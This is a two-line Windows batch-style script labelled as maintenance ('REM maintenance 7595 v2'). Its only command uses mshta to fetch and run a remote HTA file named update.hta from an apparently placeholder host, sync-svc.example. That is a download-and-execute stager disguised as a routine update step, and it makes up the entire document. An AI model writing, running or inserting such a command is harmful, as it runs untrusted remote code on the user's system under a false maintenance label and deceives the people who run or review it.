REM maintenance 7595 v2
mshta http://files.sync-svc.example/update.hta
